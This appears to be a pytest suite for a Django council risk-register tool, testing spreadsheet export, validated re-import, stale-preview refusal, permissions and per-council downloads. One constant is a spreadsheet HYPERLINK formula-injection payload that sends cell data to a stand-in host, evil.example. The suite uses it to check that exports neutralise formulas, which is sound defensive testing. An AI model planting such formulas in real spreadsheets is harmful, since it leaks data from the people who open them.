"""The risk register as a spreadsheet: exported with every field, the scores as
numbers with their levels, the controls and further actions; an edited Risks
sheet loaded back by the performance team only (preview, all or nothing, stale
previews refused); the register page's table as CSV or Excel; and the
`goldenthread risks` command."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook
from tests.factories import ActionFactory, RiskFactory

from goldenthread.domain.risk_matrix import DEFAULT
from goldenthread.imports.pipeline import ImportRefused, apply_preview
from goldenthread.risks.models import Control, Risk, RiskAction
from goldenthread.risks.sheet import RiskImport, risk_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def register(world):
    """A risk for all partners, one for Havering, and Newham's own."""
    every = RiskFactory(
        reference="SR01", title="Recruitment to Property Services", organisation=world.lbh,
        service_area=world.payroll, owner=HYPERLINK, escalation="Joint Committee",
    )  # fmt: skip
    ours = RiskFactory(
        reference="SR02", organisation=world.lbh, service_area=world.payroll, partners=[world.lbh]
    )
    newham = RiskFactory(
        reference="SR03", organisation=world.lbn, service_area=world.benefits, partners=[world.lbn]
    )
    Control.objects.create(risk=every, description="Agency cover", owner="HR")
    RiskAction.objects.create(
        risk=every, description="Recruit", plan_action=ActionFactory(reference="IP07")
    )
    return every, ours, newham


def workbook() -> bytes:
    return risk_workbook(Risk.objects.all(), DEFAULT)


def edited(content: bytes, edit) -> bytes:
    book = load_workbook(io.BytesIO(content))
    edit(book["Risks"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def column(sheet, heading: str) -> int:
    return next(c.column for c in sheet[1] if c.value == heading)


def row_of(sheet, reference: str) -> int:
    return next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == reference)


def put(sheet, reference: str, heading: str, value) -> None:
    sheet.cell(row_of(sheet, reference), column(sheet, heading)).value = value


def problems(data: bytes) -> str:
    with pytest.raises(ImportRefused) as refused:
        RiskImport(DEFAULT).read(data, filename="risks.xlsx")
    return "\n".join(map(str, refused.value.problems))


def test_the_export_has_every_field_scores_as_numbers_and_levels(register):
    book = load_workbook(io.BytesIO(workbook()))
    assert book.sheetnames == ["Risks", "Controls", "Actions", "Notes"]
    sheet = book["Risks"]
    headings = [c.value for c in sheet[1]]
    assert headings[10:16] == [
        "Inherent likelihood", "Inherent impact", "Current likelihood", "Current impact",
        "Target likelihood", "Target impact",
    ]  # fmt: skip
    row = row_of(sheet, "SR01")
    values = dict(zip(headings, [c.value for c in sheet[row]], strict=False))
    assert values["Current likelihood"] == 3 and values["Current impact"] == 4
    assert values["Current level"] == DEFAULT.level(register[0].current).name
    assert values["Partners"] == "ALL" and values["Register"] == "LBH"
    assert values["Service area"] == "Exchequer and Transactional: Payroll"
    assert values["Owner"] == HYPERLINK
    assert sheet.cell(row, column(sheet, "Owner")).quotePrefix
    assert [c.value for c in book["Controls"][2]] == [
        "SR01",
        "Agency cover",
        "HR",
        "Not yet assessed",
    ]
    assert book["Actions"]["F2"].value == "IP07"


def test_an_unchanged_export_loads_as_no_change(register):
    preview = RiskImport(DEFAULT).read(workbook(), filename="risks.xlsx")
    assert not preview.has_changes and preview.count("unchanged") == 3


def test_the_team_changes_and_adds_risks_then_saves(client_for, world, register):
    def edit(sheet):
        put(sheet, "SR02", "Current likelihood", 2)
        put(sheet, "SR02", "Partners", "LBH/LBN")
        cell = sheet.cell(row_of(sheet, "SR02"), column(sheet, "Title"))
        cell.value, cell.data_type = HYPERLINK, "s"  # typed as text
        new = sheet.max_row + 1
        for heading, value in {
            "Reference": "SR10", "Title": "Oracle Fusion delivery dates", "Category": "strategic",
            "Register": "lbh", "Service area": "Payroll", "Partners": "ALL",
            "Inherent likelihood": 4, "Inherent impact": 4, "Current likelihood": 3,
            "Current impact": 4, "Target likelihood": 2, "Target impact": 3, "Status": "Open",
            "Review date": "2019-12-31",
        }.items():  # fmt: skip
            sheet.cell(new, column(sheet, heading)).value = value

    client = client_for("performance")
    url = reverse("risks_sheets:load")
    page = client.post(url, {"workbook": SimpleUploadedFile("r.xlsx", edited(workbook(), edit))})
    assert page.status_code == 200, page.content.decode()
    text = page.content.decode()
    assert "SR10: new risk" in text and "Current likelihood" in text
    assert Risk.objects.count() == 3
    assert client.post(url, {"payload": page.context["payload"]}).status_code == 302
    changed = Risk.objects.get(reference="SR02")
    assert changed.current_likelihood == 2 and changed.title == HYPERLINK
    assert set(changed.partners.values_list("code", flat=True)) == {"LBH", "LBN"}
    added = Risk.objects.get(reference="SR10")
    assert (added.organisation, added.service_area, added.all_partners) == (
        world.lbh, world.payroll, True,
    )  # fmt: skip
    assert added.review_date.isoformat() == "2019-12-31"
    assert changed.history.first().history_user == world.users["performance"]


def test_every_problem_is_named_and_nothing_is_saved(register):
    def edit(sheet):
        put(sheet, "SR01", "Current likelihood", 6)
        put(sheet, "SR01", "Register", "XYZ")
        put(sheet, "SR01", "Service area", "Nowhere")
        put(sheet, "SR01", "Category", "Tactical")
        put(sheet, "SR02", "Partners", "LBH/ABC")
        put(sheet, "SR02", "Cause", "x" * 5000)
        put(sheet, "SR02", "Event", "bell_x0007_")
        put(sheet, "SR02", "Target likelihood", 5)
        sheet.cell(sheet.max_row + 1, 1).value = "SR01"

    found = problems(edited(workbook(), edit))
    for expected in (
        "Risks sheet, row 2, column M (Current likelihood): Write a likelihood from 1 to 5 (1 ",
        "row 2, column G (Register): No council has the code 'XYZ'",
        "row 2, column H (Service area): No single service area is 'Nowhere'",
        "row 2, column F (Category): Write one of Strategic, Operational",
        "row 3, column I (Partners): No council has the code ABC",
        "row 3, column C (Cause): Cause must be 4000 characters or fewer",
        "row 3, column D (Event): has a control character",
        "row 3, column O (Target likelihood): The target score cannot be worse",
        "row 5, column A (Reference): 'SR01' is also on row 2",
    ):
        assert expected in found, found
    assert found.count("column I (Partners)") == 1
    assert Risk.objects.get(reference="SR01").current_likelihood == 3


def test_a_risk_changed_since_the_preview_is_refused(register):
    importer = RiskImport(DEFAULT)
    data = edited(workbook(), lambda s: put(s, "SR02", "Owner", "Ann"))
    preview = importer.read(data, filename="r.xlsx")
    Risk.objects.filter(reference="SR02").update(current_impact=5)
    with pytest.raises(ImportRefused, match="Someone changed risk SR02 since your preview"):
        apply_preview(importer, importer.from_payload(importer.to_payload(preview)), by=None)
    assert Risk.objects.get(reference="SR02").owner == ""


def test_a_workbook_without_the_risks_sheet_or_not_a_workbook_is_refused(register):
    assert "is a text file" in problems(b"<html><body>risks</body></html>")
    book = load_workbook(io.BytesIO(workbook()))
    book["Risks"].title = "Register"
    out = io.BytesIO()
    book.save(out)
    assert "has no sheet named 'Risks'" in problems(out.getvalue())


def test_only_the_team_exports_and_loads_the_register(client_for, register, tmp_path):
    for username in ("officer.lbh", "director", "s151"):
        client = client_for(username)
        assert client.get(reverse("risks_sheets:export")).status_code == 403
        assert client.get(reverse("risks_sheets:load")).status_code == 403
    path = tmp_path / "risks.xlsx"
    call_command("risks", "export", "--out", str(path))
    with pytest.raises(CommandError, match="--as"):
        call_command("risks", "import", str(path), "--apply", "--as", "director")
    path.write_bytes(edited(path.read_bytes(), lambda s: put(s, "SR02", "Owner", "Ann")))
    out = io.StringIO()
    call_command("risks", "import", str(path), "--apply", "--as", "performance", stdout=out)
    assert "changed  SR02 Owner: '' -> 'Ann'" in out.getvalue()
    assert Risk.objects.get(reference="SR02").owner == "Ann"


def test_the_register_table_downloads_what_havering_may_see(client_for, register):
    response = client_for("councillor.lbh").get(reverse("risks_sheets:table", args=["csv"]))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "SR01" in text and "SR02" in text and "SR03" not in text
    assert "Recruitment to Property Services" in text
    xlsx = client_for("performance").get(reverse("risks_sheets:table", args=["xlsx"]))
    cells = [c.value for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows()
             for c in row]  # fmt: skip
    assert "SR03" in cells
